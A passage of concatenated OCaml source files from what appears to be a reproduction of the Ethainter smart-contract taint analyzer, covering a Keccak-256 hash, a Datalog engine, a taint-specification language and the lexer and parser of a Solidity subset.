               b.(((x + 2) mod 5) + (5 * y)))
      done
    done;
    (* iota *)
    state.(0) <- Int64.logxor state.(0) round_constants.(round)
  done

let rate_bytes = 136 (* 1088-bit rate for Keccak-256 *)

(** [hash msg] computes the 32-byte Keccak-256 digest of [msg]. *)
let hash (msg : string) : string =
  let state = Array.make 25 0L in
  let len = String.length msg in
  (* Absorb full rate-sized blocks. *)
  let absorb_block (block : Bytes.t) =
    for i = 0 to (rate_bytes / 8) - 1 do
      state.(i) <- Int64.logxor state.(i) (Bytes.get_int64_le block (i * 8))
    done;
    keccak_f state
  in
  let nfull = len / rate_bytes in
  let block = Bytes.create rate_bytes in
  for b = 0 to nfull - 1 do
    Bytes.blit_string msg (b * rate_bytes) block 0 rate_bytes;
    absorb_block block
  done;
  (* Final padded block: pad10*1 with the 0x01 domain byte (legacy
     Keccak as used by Ethereum). *)
  let remaining = len - (nfull * rate_bytes) in
  let last = Bytes.make rate_bytes '\000' in
  Bytes.blit_string msg (nfull * rate_bytes) last 0 remaining;
  Bytes.set last remaining (Char.chr 0x01);
  Bytes.set last (rate_bytes - 1)
    (Char.chr (Char.code (Bytes.get last (rate_bytes - 1)) lor 0x80));
  absorb_block last;
  (* Squeeze 32 bytes. *)
  let out = Bytes.create 32 in
  for i = 0 to 3 do
    Bytes.set_int64_le out (i * 8) state.(i)
  done;
  Bytes.to_string out

(** Keccak-256 of a byte string, as a [Uint256] (big-endian digest). *)
let hash_word (msg : string) : Ethainter_word.Uint256.t =
  Ethainter_word.Uint256.of_bytes (hash msg)

(** The 4-byte Solidity function selector for a signature like
    ["transfer(address,uint256)"]. *)
let selector (signature : string) : string = String.sub (hash signature) 0 4

(** Storage slot of [mapping_slot[key]] for a Solidity mapping at slot
    [slot]: keccak256(pad32(key) ++ pad32(slot)). *)
let mapping_slot ~(key : Ethainter_word.Uint256.t)
    ~(slot : Ethainter_word.Uint256.t) : Ethainter_word.Uint256.t =
  hash_word
    (Ethainter_word.Uint256.to_bytes key ^ Ethainter_word.Uint256.to_bytes slot)
