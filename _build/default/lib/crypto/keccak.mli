(** Keccak-256 as used by Ethereum (original Keccak padding 0x01, not
    the NIST SHA-3 padding).

    This is the hash behind the EVM [SHA3] opcode, Solidity function
    selectors, and the storage-slot derivation for mappings — the
    mechanism the paper's DS/DSA rules (Fig. 4) model. *)

val hash : string -> string
(** 32-byte Keccak-256 digest. *)

val hash_word : string -> Ethainter_word.Uint256.t
(** Digest interpreted as a big-endian 256-bit word. *)

val selector : string -> string
(** First 4 digest bytes of a Solidity signature such as
    ["transfer(address,uint256)"] — the ABI dispatch selector. *)

val mapping_slot :
  key:Ethainter_word.Uint256.t ->
  slot:Ethainter_word.Uint256.t ->
  Ethainter_word.Uint256.t
(** Storage slot of [m[key]] for a mapping declared at [slot]:
    [keccak256(pad32 key ++ pad32 slot)] (the Solidity convention). *)

val keccak_f : int64 array -> unit
(** The Keccak-f[1600] permutation over a 25-lane state, in place.
    Exposed for testing. *)

val rate_bytes : int
(** Sponge rate for Keccak-256: 136 bytes. *)
