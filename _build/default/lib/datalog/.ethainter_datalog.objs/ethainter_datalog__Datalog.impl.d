lib/datalog/datalog.ml: Array Hashtbl List Printf Set
