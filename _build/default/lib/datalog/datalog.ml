(** A stratified Datalog engine with semi-naive evaluation.

    Stand-in for the Soufflé engine the paper's implementation targets
    (§5: "several hundred declarative rules ... translated into highly
    optimized C++"). Ours is an in-memory interpreter:

    - relations over tuples of interned constants;
    - rules with positive and negated body atoms plus OCaml-side
      filter/compute atoms;
    - stratification with a negation-safety check (a relation may only
      be negated if it is fully computed in an earlier stratum);
    - semi-naive (delta-driven) fixpoint within each stratum.

    The Section-4 formal model ({!Ethainter_ifspec}) runs literally on
    this engine; tests validate the engine against textbook programs
    (transitive closure, same-generation, negation). *)

type const =
  | Sym of string
  | Int of int

let const_to_string = function
  | Sym s -> s
  | Int i -> string_of_int i

type tuple = const array

module TupleSet = Set.Make (struct
  type t = tuple
  let compare = compare
end)

type term =
  | Var of string
  | Const of const

let v x = Var x
let sym s = Const (Sym s)
let int i = Const (Int i)

(** A body literal. *)
type literal =
  | Pos of string * term list       (** R(t...) *)
  | Neg of string * term list       (** !R(t...) — R must be in an
                                        earlier stratum *)
  | Filter of string list * (const list -> bool)
      (** an arbitrary test over bound variables *)
  | Bind of string * string list * (const list -> const option)
      (** bind a new variable from bound ones (functional computation) *)

type rule = {
  head : string * term list;
  body : literal list;
}

exception Datalog_error of string

let fail fmt = Printf.ksprintf (fun s -> raise (Datalog_error s)) fmt

type program = {
  mutable rules : rule list;
  relations : (string, int) Hashtbl.t; (* name -> arity *)
}

let create () = { rules = []; relations = Hashtbl.create 32 }

let declare p name arity =
  (match Hashtbl.find_opt p.relations name with
  | Some a when a <> arity ->
      fail "relation %s redeclared with arity %d (was %d)" name arity a
  | _ -> ());
  Hashtbl.replace p.relations name arity

let add_rule p head body =
  let check_atom (name, terms) =
    match Hashtbl.find_opt p.relations name with
    | None -> fail "rule references undeclared relation %s" name
    | Some a when a <> List.length terms ->
        fail "relation %s used with %d terms, declared arity %d" name
          (List.length terms) a
    | Some _ -> ()
  in
  check_atom head;
  List.iter
    (function
      | Pos (n, ts) | Neg (n, ts) -> check_atom (n, ts)
      | Filter _ | Bind _ -> ())
    body;
  p.rules <- { head; body } :: p.rules

(* ------------------------------------------------------------------ *)
(* Stratification                                                      *)
(* ------------------------------------------------------------------ *)

(* Build the dependency graph: head depends on each body relation;
   negated dependencies must not appear in a cycle. *)
let stratify (p : program) : string list list =
  let rels = Hashtbl.fold (fun r _ acc -> r :: acc) p.relations [] in
  (* edges: (from=body rel, to=head rel, negated) *)
  let edges =
    List.concat_map
      (fun r ->
        let h = fst r.head in
        List.filter_map
          (function
            | Pos (n, _) -> Some (n, h, false)
            | Neg (n, _) -> Some (n, h, true)
            | Filter _ | Bind _ -> None)
          r.body)
      p.rules
  in
  (* stratum numbers via fixpoint on constraints:
     stratum(h) >= stratum(b) for positive, > for negative *)
  let stratum = Hashtbl.create 32 in
  List.iter (fun r -> Hashtbl.replace stratum r 0) rels;
  let nrels = List.length rels in
  let changed = ref true in
  let iters = ref 0 in
  while !changed do
    changed := false;
    incr iters;
    if !iters > nrels + 2 then
      fail "program is not stratifiable (negation through recursion)";
    List.iter
      (fun (b, h, neg) ->
        let sb = Hashtbl.find stratum b and sh = Hashtbl.find stratum h in
        let need = if neg then sb + 1 else sb in
        if sh < need then begin
          Hashtbl.replace stratum h need;
          changed := true
        end)
      edges
  done;
  let max_s = Hashtbl.fold (fun _ s acc -> max s acc) stratum 0 in
  List.init (max_s + 1) (fun i ->
      List.filter (fun r -> Hashtbl.find stratum r = i) rels)

(* ------------------------------------------------------------------ *)
(* Evaluation                                                          *)
(* ------------------------------------------------------------------ *)

type db = (string, TupleSet.t ref) Hashtbl.t

let get_rel (db : db) name =
  match Hashtbl.find_opt db name with
  | Some s -> s
  | None ->
      let s = ref TupleSet.empty in
      Hashtbl.replace db name s;
      s

type env = (string * const) list

let lookup env x = List.assoc_opt x env

let match_term (env : env) (t : term) (c : const) : env option =
  match t with
  | Const k -> if k = c then Some env else None
  | Var x -> (
      match lookup env x with
      | Some k -> if k = c then Some env else None
      | None -> Some ((x, c) :: env))

let match_tuple env (terms : term list) (tup : tuple) : env option =
  let rec go env ts i =
    match ts with
    | [] -> Some env
    | t :: rest -> (
        match match_term env t tup.(i) with
        | Some env' -> go env' rest (i + 1)
        | None -> None)
  in
  if List.length terms <> Array.length tup then None else go env terms 0

let eval_term env = function
  | Const k -> k
  | Var x -> (
      match lookup env x with
      | Some k -> k
      | None -> fail "unbound variable %s in rule head" x)

(* Evaluate the body literals left-to-right; call k on each complete
   environment. [delta_at] optionally forces literal #i to range over a
   delta set instead of the full relation (semi-naive). *)
let rec eval_body (db : db) (delta : (string * TupleSet.t) option)
    (delta_at : int option) (lits : literal list) (idx : int) (env : env)
    (k : env -> unit) : unit =
  match lits with
  | [] -> k env
  | Filter (vars, f) :: rest ->
      let vals =
        List.map
          (fun x ->
            match lookup env x with
            | Some c -> c
            | None -> fail "filter over unbound variable %s" x)
          vars
      in
      if f vals then eval_body db delta delta_at rest (idx + 1) env k
  | Bind (x, vars, f) :: rest -> (
      let vals =
        List.map
          (fun y ->
            match lookup env y with
            | Some c -> c
            | None -> fail "bind over unbound variable %s" y)
          vars
      in
      match f vals with
      | Some c -> (
          match lookup env x with
          | Some c' ->
              if c = c' then eval_body db delta delta_at rest (idx + 1) env k
          | None -> eval_body db delta delta_at rest (idx + 1) ((x, c) :: env) k)
      | None -> ())
  | Neg (name, terms) :: rest ->
      let rel = !(get_rel db name) in
      let ground =
        List.map (fun t -> eval_term env t) terms |> Array.of_list
      in
      if not (TupleSet.mem ground rel) then
        eval_body db delta delta_at rest (idx + 1) env k
  | Pos (name, terms) :: rest ->
      let source =
        match (delta, delta_at) with
        | Some (dname, dset), Some di when di = idx && dname = name -> dset
        | _ -> !(get_rel db name)
      in
      TupleSet.iter
        (fun tup ->
          match match_tuple env terms tup with
          | Some env' -> eval_body db delta delta_at rest (idx + 1) env' k
          | None -> ())
        source

let head_tuple env (terms : term list) : tuple =
  List.map (eval_term env) terms |> Array.of_list

(** Run the program over the initial facts; returns the database of all
    derived relations. *)
let solve (p : program) (facts : (string * tuple list) list) : db =
  let db : db = Hashtbl.create 32 in
  List.iter
    (fun (name, tuples) ->
      (match Hashtbl.find_opt p.relations name with
      | None -> fail "facts for undeclared relation %s" name
      | Some a ->
          List.iter
            (fun t ->
              if Array.length t <> a then
                fail "fact arity mismatch for %s" name)
            tuples);
      let r = get_rel db name in
      r := List.fold_left (fun s t -> TupleSet.add t s) !r tuples)
    facts;
  let strata = stratify p in
  List.iter
    (fun stratum_rels ->
      let rules =
        List.filter (fun r -> List.mem (fst r.head) stratum_rels) p.rules
      in
      (* naive first round to seed *)
      let deltas : (string, TupleSet.t) Hashtbl.t = Hashtbl.create 8 in
      let add_fact name tup =
        let r = get_rel db name in
        if not (TupleSet.mem tup !r) then begin
          r := TupleSet.add tup !r;
          let d =
            match Hashtbl.find_opt deltas name with
            | Some d -> d
            | None -> TupleSet.empty
          in
          Hashtbl.replace deltas name (TupleSet.add tup d)
        end
      in
      List.iter
        (fun rule ->
          eval_body db None None rule.body 0 []
            (fun env -> add_fact (fst rule.head) (head_tuple env (snd rule.head))))
        rules;
      (* semi-naive iterations *)
      let continue = ref (Hashtbl.length deltas > 0) in
      while !continue do
        let current = Hashtbl.fold (fun n d acc -> (n, d) :: acc) deltas [] in
        Hashtbl.reset deltas;
        List.iter
          (fun rule ->
            List.iteri
              (fun i lit ->
                match lit with
                | Pos (name, _) -> (
                    match List.assoc_opt name current with
                    | Some dset when not (TupleSet.is_empty dset) ->
                        eval_body db (Some (name, dset)) (Some i) rule.body 0
                          []
                          (fun env ->
                            add_fact (fst rule.head)
                              (head_tuple env (snd rule.head)))
                    | _ -> ())
                | _ -> ())
              rule.body)
          rules;
        continue := Hashtbl.length deltas > 0
      done)
    strata;
  db

(** All tuples of a relation in the solved database. *)
let relation (db : db) name : tuple list =
  match Hashtbl.find_opt db name with
  | Some s -> TupleSet.elements !s
  | None -> []

let mem (db : db) name (tup : tuple) : bool =
  match Hashtbl.find_opt db name with
  | Some s -> TupleSet.mem tup !s
  | None -> false

let size (db : db) name = List.length (relation db name)
