lib/evm/bytecode.ml: Buffer Char Ethainter_word Format Hashtbl List Opcode String
