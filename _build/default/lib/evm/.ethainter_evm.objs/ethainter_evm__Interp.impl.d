lib/evm/interp.ml: Bytecode Bytes Char Ethainter_crypto Ethainter_word Hashtbl List Opcode State String
