lib/evm/state.ml: Ethainter_crypto Ethainter_word Hashtbl List
