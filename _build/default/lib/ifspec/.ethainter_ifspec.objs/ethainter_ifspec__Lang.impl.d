lib/ifspec/lang.ml: Format Hashtbl List Printf String
