lib/ifspec/rules.ml: Array Ethainter_datalog Lang List
