(** The abstract input language of §4 (Fig. 1).

    A tiny SSA language carrying exactly the information-flow-relevant
    features of smart contracts: a taint source ([INPUT]), hashing (for
    the storage data-structure addressing of §4.3), sanitization
    ([GUARD]), persistent storage ([SSTORE]/[SLOAD]) and sensitive
    sinks ([SINK]). [sender] is the reserved variable naming the
    contract caller.

    Concrete syntax (one instruction per line, [#] comments):
    {v
      x := INPUT()
      x := CONST(42)
      x := OP(y, z)
      p := EQ(y, z)        # equality — an OP we can refer to explicitly
      x := HASH(y)
      x := GUARD(p, y)
      SSTORE(f, t)         # value f -> storage address t
      SLOAD(f, t)          # storage address f -> local t
      SINK(x)
    v} *)

type instr =
  | Input of string                       (* x := INPUT() *)
  | Const of string * int                 (* x := CONST(v) *)
  | Op of string * string * string        (* x := OP(y, z) *)
  | Eq of string * string * string        (* x := (y = z) *)
  | Hash of string * string               (* x := HASH(y) *)
  | Guard of string * string * string     (* x := GUARD(p, y) *)
  | Sstore of string * string             (* SSTORE(value f, addr t) *)
  | Sload of string * string              (* SLOAD(addr f, local t) *)
  | Sink of string                        (* SINK(x) *)

type program = instr list

exception Parse_error of string * int

let defined_var = function
  | Input x | Const (x, _) | Op (x, _, _) | Eq (x, _, _) | Hash (x, _)
  | Guard (x, _, _) ->
      Some x
  | Sload (_, t) -> Some t
  | Sstore _ | Sink _ -> None

let used_vars = function
  | Input _ | Const _ -> []
  | Op (_, y, z) | Eq (_, y, z) -> [ y; z ]
  | Hash (_, y) -> [ y ]
  | Guard (_, p, y) -> [ p; y ]
  | Sstore (f, t) -> [ f; t ]
  | Sload (f, _) -> [ f ]
  | Sink x -> [ x ]

(** SSA check: each variable defined at most once; every used variable
    is either [sender] or defined somewhere. *)
let validate (p : program) : (unit, string) result =
  let defs = Hashtbl.create 16 in
  let ok = ref (Ok ()) in
  List.iter
    (fun i ->
      match defined_var i with
      | Some x ->
          if x = "sender" then ok := Error "cannot redefine sender"
          else if Hashtbl.mem defs x then
            ok := Error (Printf.sprintf "variable %s defined twice (not SSA)" x)
          else Hashtbl.replace defs x ()
      | None -> ())
    p;
  List.iter
    (fun i ->
      List.iter
        (fun u ->
          if u <> "sender" && not (Hashtbl.mem defs u) then
            ok := Error (Printf.sprintf "variable %s used but never defined" u))
        (used_vars i))
    p;
  !ok

(* ------------------------------------------------------------------ *)
(* Parser                                                              *)
(* ------------------------------------------------------------------ *)

let strip s =
  let is_sp c = c = ' ' || c = '\t' || c = '\r' in
  let n = String.length s in
  let i = ref 0 and j = ref (n - 1) in
  while !i < n && is_sp s.[!i] do incr i done;
  while !j >= !i && is_sp s.[!j] do decr j done;
  if !j < !i then "" else String.sub s !i (!j - !i + 1)

(* split "F(a, b)" into ("F", ["a"; "b"]) *)
let split_call line lineno =
  match String.index_opt line '(' with
  | None -> raise (Parse_error ("expected '('", lineno))
  | Some i ->
      let f = strip (String.sub line 0 i) in
      let rest = String.sub line (i + 1) (String.length line - i - 1) in
      let rest = strip rest in
      if String.length rest = 0 || rest.[String.length rest - 1] <> ')' then
        raise (Parse_error ("expected ')'", lineno));
      let inner = String.sub rest 0 (String.length rest - 1) in
      let args =
        if strip inner = "" then []
        else String.split_on_char ',' inner |> List.map strip
      in
      (f, args)

let parse_line line lineno : instr option =
  let line =
    match String.index_opt line '#' with
    | Some i -> String.sub line 0 i
    | None -> line
  in
  let line = strip line in
  if line = "" then None
  else
    (* assignment or bare statement *)
    let assign =
      (* find ":=" *)
      let rec find i =
        if i + 1 >= String.length line then None
        else if line.[i] = ':' && line.[i + 1] = '=' then Some i
        else find (i + 1)
      in
      find 0
    in
    match assign with
    | Some i ->
        let x = strip (String.sub line 0 i) in
        let rhs = strip (String.sub line (i + 2) (String.length line - i - 2)) in
        (* "(y = z)" sugar for equality *)
        if String.length rhs > 0 && rhs.[0] = '(' then begin
          let inner = String.sub rhs 1 (String.length rhs - 2) in
          match String.index_opt inner '=' with
          | Some j ->
              let y = strip (String.sub inner 0 j) in
              let z = strip (String.sub inner (j + 1) (String.length inner - j - 1)) in
              Some (Eq (x, y, z))
          | None -> raise (Parse_error ("expected '=' in comparison", lineno))
        end
        else begin
          let f, args = split_call rhs lineno in
          match (String.uppercase_ascii f, args) with
          | "INPUT", [] -> Some (Input x)
          | "CONST", [ v ] -> (
              match int_of_string_opt v with
              | Some n -> Some (Const (x, n))
              | None -> raise (Parse_error ("CONST expects an integer", lineno)))
          | "OP", [ y; z ] -> Some (Op (x, y, z))
          | "EQ", [ y; z ] -> Some (Eq (x, y, z))
          | "HASH", [ y ] -> Some (Hash (x, y))
          | "GUARD", [ p; y ] -> Some (Guard (x, p, y))
          | f, _ -> raise (Parse_error ("unknown instruction " ^ f, lineno))
        end
    | None ->
        let f, args = split_call line lineno in
        (match (String.uppercase_ascii f, args) with
        | "SSTORE", [ a; b ] -> Some (Sstore (a, b))
        | "SLOAD", [ a; b ] -> Some (Sload (a, b))
        | "SINK", [ a ] -> Some (Sink a)
        | f, _ -> raise (Parse_error ("unknown statement " ^ f, lineno)))

(** Parse a program in the Fig. 1 concrete syntax. *)
let parse (src : string) : program =
  String.split_on_char '\n' src
  |> List.mapi (fun i l -> (i + 1, l))
  |> List.filter_map (fun (n, l) -> parse_line l n)

let pp_instr fmt = function
  | Input x -> Format.fprintf fmt "%s := INPUT()" x
  | Const (x, v) -> Format.fprintf fmt "%s := CONST(%d)" x v
  | Op (x, y, z) -> Format.fprintf fmt "%s := OP(%s, %s)" x y z
  | Eq (x, y, z) -> Format.fprintf fmt "%s := (%s = %s)" x y z
  | Hash (x, y) -> Format.fprintf fmt "%s := HASH(%s)" x y
  | Guard (x, p, y) -> Format.fprintf fmt "%s := GUARD(%s, %s)" x p y
  | Sstore (f, t) -> Format.fprintf fmt "SSTORE(%s, %s)" f t
  | Sload (f, t) -> Format.fprintf fmt "SLOAD(%s, %s)" f t
  | Sink x -> Format.fprintf fmt "SINK(%s)" x
