lib/kill/kill.ml: Decomp Ethainter_chain Ethainter_core Ethainter_evm Ethainter_tac Ethainter_word List String Tac
