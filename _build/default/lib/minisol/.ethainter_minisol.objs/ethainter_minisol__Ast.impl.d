lib/minisol/ast.ml: Ethainter_word List Printf String
