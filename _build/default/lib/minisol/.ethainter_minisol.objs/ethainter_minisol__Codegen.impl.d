lib/minisol/codegen.ml: Ast Ethainter_crypto Ethainter_evm Ethainter_word List Parser Printf String Typecheck
