lib/minisol/lexer.ml: Ethainter_word List Printf String
