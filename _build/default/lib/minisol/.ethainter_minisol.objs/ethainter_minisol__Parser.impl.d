lib/minisol/parser.ml: Ast Lexer List Printf
