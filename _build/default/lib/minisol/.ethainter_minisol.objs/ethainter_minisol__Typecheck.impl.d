lib/minisol/typecheck.ml: Ast Hashtbl List Printf
