(** Abstract syntax for MiniSol, a Solidity subset.

    MiniSol exists so the reproduction has a source of *realistic* EVM
    bytecode: contracts with function-selector dispatch, storage
    mappings addressed through keccak, owner checks in modifiers — the
    exact guarding patterns the paper's analysis models. Every contract
    in the evaluation corpus is written in MiniSol, compiled by
    {!Codegen}, and then analyzed at the bytecode level (as Ethainter
    does with solc output). The source is additionally consumed by the
    Securify2 baseline, which is a source-level tool (§6.2). *)

module U = Ethainter_word.Uint256

type ty =
  | TUint
  | TAddress
  | TBool
  | TMapping of ty * ty

let rec ty_to_string = function
  | TUint -> "uint256"
  | TAddress -> "address"
  | TBool -> "bool"
  | TMapping (k, v) ->
      Printf.sprintf "mapping(%s => %s)" (ty_to_string k) (ty_to_string v)

(** ABI type string used in function signatures / selectors. *)
let abi_type = function
  | TUint -> "uint256"
  | TAddress -> "address"
  | TBool -> "bool"
  | TMapping _ -> invalid_arg "abi_type: mapping"

type binop =
  | Add | Sub | Mul | Div | Mod
  | Lt | Gt | Le | Ge | Eq | Neq
  | And | Or

let binop_to_string = function
  | Add -> "+" | Sub -> "-" | Mul -> "*" | Div -> "/" | Mod -> "%"
  | Lt -> "<" | Gt -> ">" | Le -> "<=" | Ge -> ">=" | Eq -> "=="
  | Neq -> "!=" | And -> "&&" | Or -> "||"

type expr =
  | Num of U.t
  | BoolLit of bool
  | Var of string                  (** local, parameter, or state scalar *)
  | Index of expr * expr           (** mapping lookup m[k] (possibly nested) *)
  | Sender                         (** msg.sender *)
  | Value                          (** msg.value *)
  | This                           (** address(this) *)
  | Origin                         (** tx.origin *)
  | SelfBalance                    (** address(this).balance *)
  | Bin of binop * expr * expr
  | Not of expr
  | CallFn of string * expr list   (** internal function call *)
  | KeccakOf of expr               (** keccak256(abi.encode(e)) *)
  | RawSload of expr               (** assembly { sload(e) } — raw slot read *)

type lvalue =
  | LVar of string
  | LIndex of lvalue * expr

type stmt =
  | SLet of string * ty * expr              (** ty x = e; *)
  | SAssign of lvalue * expr                (** lv = e; *)
  | SIf of expr * block * block
  | SWhile of expr * block
  | SRequire of expr
  | SReturn of expr option
  | SExpr of expr
  | SSelfdestruct of expr                   (** selfdestruct(addr) *)
  | SDelegatecall of expr                   (** addr.delegatecall("") *)
  | SCallExt of expr * expr                 (** addr.call{value: v}("") *)
  | SStaticcall of { target : expr; checked : bool }
      (** staticcall writing output over input; [checked] inserts the
          RETURNDATASIZE guard of §3.5 *)
  | SRawSstore of expr * expr               (** assembly { sstore(slot, v) } *)
  | SLogEvent of expr * expr                (** emit-style event: LOG1 with
                                                one topic and one data word *)
  | SPlaceholder                            (** the [_;] inside a modifier *)

and block = stmt list

type visibility = Public | Private

type func = {
  fname : string;
  params : (string * ty) list;
  ret : ty option;
  vis : visibility;
  mods : string list; (** modifier names, applied outermost first *)
  body : block;
}

type modifier_def = { mname : string; mbody : block }

type contract = {
  cname : string;
  state_vars : (string * ty) list; (** declaration order = slot order *)
  modifiers : modifier_def list;
  ctor : block option;
  funcs : func list;
}

(** Solidity-style signature of a function, e.g. [kill()] or
    [transfer(address,uint256)] — hashed for the 4-byte selector. *)
let signature (f : func) : string =
  Printf.sprintf "%s(%s)" f.fname
    (String.concat "," (List.map (fun (_, t) -> abi_type t) f.params))

let find_func (c : contract) (name : string) : func option =
  List.find_opt (fun f -> f.fname = name) c.funcs

let find_modifier (c : contract) (name : string) : modifier_def option =
  List.find_opt (fun m -> m.mname = name) c.modifiers
