(** Hand-written lexer for MiniSol. *)

module U = Ethainter_word.Uint256

type token =
  | TIdent of string
  | TNum of U.t
  | TKw of string        (* keywords *)
  | TPunct of string     (* punctuation / operators *)
  | TEOF

type lexed = { tok : token; line : int }

exception Lex_error of string * int

let keywords =
  [ "contract"; "function"; "modifier"; "constructor"; "mapping";
    "uint256"; "uint"; "address"; "bool"; "public"; "private"; "returns";
    "return"; "require"; "if"; "else"; "while"; "true"; "false"; "msg";
    "sender"; "value"; "this"; "tx"; "origin"; "selfdestruct";
    "delegatecall"; "staticcall_checked"; "staticcall_unchecked";
    "call_value"; "keccak256"; "balance"; "payable"; "view"; "external";
    "assembly_sstore"; "assembly_sload"; "log_event";
    "internal"; "memory"; "storage" ]

let is_ident_start c = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c = '_'
let is_ident_char c = is_ident_start c || (c >= '0' && c <= '9')
let is_digit c = c >= '0' && c <= '9'
let is_hex c = is_digit c || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')

let tokenize (src : string) : lexed list =
  let n = String.length src in
  let toks = ref [] in
  let line = ref 1 in
  let i = ref 0 in
  let push t = toks := { tok = t; line = !line } :: !toks in
  while !i < n do
    let c = src.[!i] in
    if c = '\n' then begin incr line; incr i end
    else if c = ' ' || c = '\t' || c = '\r' then incr i
    else if c = '/' && !i + 1 < n && src.[!i + 1] = '/' then begin
      while !i < n && src.[!i] <> '\n' do incr i done
    end
    else if c = '/' && !i + 1 < n && src.[!i + 1] = '*' then begin
      i := !i + 2;
      let fin = ref false in
      while not !fin do
        if !i + 1 >= n then raise (Lex_error ("unterminated comment", !line));
        if src.[!i] = '\n' then incr line;
        if src.[!i] = '*' && src.[!i + 1] = '/' then begin
          i := !i + 2; fin := true
        end
        else incr i
      done
    end
    else if is_ident_start c then begin
      let start = !i in
      while !i < n && is_ident_char src.[!i] do incr i done;
      let word = String.sub src start (!i - start) in
      if List.mem word keywords then push (TKw word) else push (TIdent word)
    end
    else if is_digit c then begin
      let start = !i in
      if c = '0' && !i + 1 < n && (src.[!i + 1] = 'x' || src.[!i + 1] = 'X')
      then begin
        i := !i + 2;
        while !i < n && is_hex src.[!i] do incr i done;
        push (TNum (U.of_hex (String.sub src start (!i - start))))
      end
      else begin
        while !i < n && (is_digit src.[!i] || src.[!i] = '_') do incr i done;
        push (TNum (U.of_decimal (String.sub src start (!i - start))))
      end
    end
    else begin
      (* multi-char operators first *)
      let two = if !i + 1 < n then String.sub src !i 2 else "" in
      match two with
      | "==" | "!=" | "<=" | ">=" | "&&" | "||" | "+=" | "-=" | "=>" ->
          push (TPunct two); i := !i + 2
      | _ -> (
          match c with
          | '{' | '}' | '(' | ')' | '[' | ']' | ';' | ',' | '.' | '='
          | '+' | '-' | '*' | '/' | '%' | '<' | '>' | '!' ->
              push (TPunct (String.make 1 c));
              incr i
          | _ -> raise (Lex_error (Printf.sprintf "bad character %C" c, !line)))
    end
  done;
  push TEOF;
  List.rev !toks
