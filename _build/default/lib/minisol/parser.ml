(** Recursive-descent parser for MiniSol.

    Grammar (Solidity subset):
    {v
    contract  ::= "contract" IDENT "{" decl* "}"
    decl      ::= statevar | modifier | constructor | function
    statevar  ::= type IDENT ";"
    type      ::= "uint256" | "uint" | "address" | "bool"
                | "mapping" "(" type "=>" type ")"
    modifier  ::= "modifier" IDENT block
    function  ::= "function" IDENT "(" params ")" attrs
                  ("returns" "(" type ")")? block
    attrs     ::= ("public"|"private"|"payable"|"view"|...|IDENT)*
    stmt      ::= type IDENT "=" expr ";" | lvalue ("="|"+="|"-=") expr ";"
                | "if" "(" expr ")" block ("else" block)?
                | "while" "(" expr ")" block
                | "require" "(" expr ")" ";" | "return" expr? ";"
                | "selfdestruct" "(" expr ")" ";"
                | "delegatecall" "(" expr ")" ";"
                | "staticcall_checked" "(" expr ")" ";"
                | "staticcall_unchecked" "(" expr ")" ";"
                | "call_value" "(" expr "," expr ")" ";"
                | "_" ";" | expr ";"
    v}
    Expressions use standard precedence: [||] < [&&] < comparisons <
    [+ -] < [* / %] < unary [!] < postfix indexing/calls. *)

open Ast
module L = Lexer

exception Parse_error of string * int

type st = { mutable toks : L.lexed list }

let peek st =
  match st.toks with [] -> L.{ tok = TEOF; line = 0 } | t :: _ -> t

let advance st = match st.toks with [] -> () | _ :: r -> st.toks <- r

let err st msg = raise (Parse_error (msg, (peek st).L.line))

let expect_punct st p =
  match (peek st).L.tok with
  | L.TPunct q when q = p -> advance st
  | _ -> err st (Printf.sprintf "expected %S" p)

let expect_kw st k =
  match (peek st).L.tok with
  | L.TKw q when q = k -> advance st
  | _ -> err st (Printf.sprintf "expected keyword %S" k)

let accept_punct st p =
  match (peek st).L.tok with
  | L.TPunct q when q = p ->
      advance st;
      true
  | _ -> false

let accept_kw st k =
  match (peek st).L.tok with
  | L.TKw q when q = k ->
      advance st;
      true
  | _ -> false

let ident st =
  match (peek st).L.tok with
  | L.TIdent x ->
      advance st;
      x
  (* allow a few keywords as identifiers in harmless positions *)
  | L.TKw (("sender" | "value" | "origin" | "balance") as x) ->
      advance st;
      x
  | _ -> err st "expected identifier"

let rec parse_type st : ty =
  if accept_kw st "uint256" || accept_kw st "uint" then TUint
  else if accept_kw st "address" then (
    ignore (accept_kw st "payable");
    TAddress)
  else if accept_kw st "bool" then TBool
  else if accept_kw st "mapping" then begin
    expect_punct st "(";
    let k = parse_type st in
    expect_punct st "=>";
    let v = parse_type st in
    expect_punct st ")";
    TMapping (k, v)
  end
  else err st "expected type"

(* ---------------- expressions ---------------- *)

let rec parse_expr st : expr = parse_or st

and parse_or st =
  let lhs = parse_and st in
  if accept_punct st "||" then Bin (Or, lhs, parse_or st) else lhs

and parse_and st =
  let lhs = parse_cmp st in
  if accept_punct st "&&" then Bin (And, lhs, parse_and st) else lhs

and parse_cmp st =
  let lhs = parse_add st in
  if accept_punct st "==" then Bin (Eq, lhs, parse_add st)
  else if accept_punct st "!=" then Bin (Neq, lhs, parse_add st)
  else if accept_punct st "<=" then Bin (Le, lhs, parse_add st)
  else if accept_punct st ">=" then Bin (Ge, lhs, parse_add st)
  else if accept_punct st "<" then Bin (Lt, lhs, parse_add st)
  else if accept_punct st ">" then Bin (Gt, lhs, parse_add st)
  else lhs

and parse_add st =
  let rec loop lhs =
    if accept_punct st "+" then loop (Bin (Add, lhs, parse_mul st))
    else if accept_punct st "-" then loop (Bin (Sub, lhs, parse_mul st))
    else lhs
  in
  loop (parse_mul st)

and parse_mul st =
  let rec loop lhs =
    if accept_punct st "*" then loop (Bin (Mul, lhs, parse_unary st))
    else if accept_punct st "/" then loop (Bin (Div, lhs, parse_unary st))
    else if accept_punct st "%" then loop (Bin (Mod, lhs, parse_unary st))
    else lhs
  in
  loop (parse_unary st)

and parse_unary st =
  if accept_punct st "!" then Not (parse_unary st) else parse_postfix st

and parse_postfix st =
  let rec loop e =
    if accept_punct st "[" then begin
      let k = parse_expr st in
      expect_punct st "]";
      loop (Index (e, k))
    end
    else if accept_punct st "." then begin
      (* this.f(...) — sugar for internal call; addr.balance *)
      match (peek st).L.tok with
      | L.TKw "balance" ->
          advance st;
          loop SelfBalance
      | L.TIdent f ->
          advance st;
          expect_punct st "(";
          let args = parse_args st in
          loop (CallFn (f, args))
      | _ -> err st "expected member name"
    end
    else e
  in
  loop (parse_primary st)

and parse_args st =
  if accept_punct st ")" then []
  else begin
    let rec go acc =
      let e = parse_expr st in
      if accept_punct st "," then go (e :: acc)
      else begin
        expect_punct st ")";
        List.rev (e :: acc)
      end
    in
    go []
  end

and parse_primary st =
  match (peek st).L.tok with
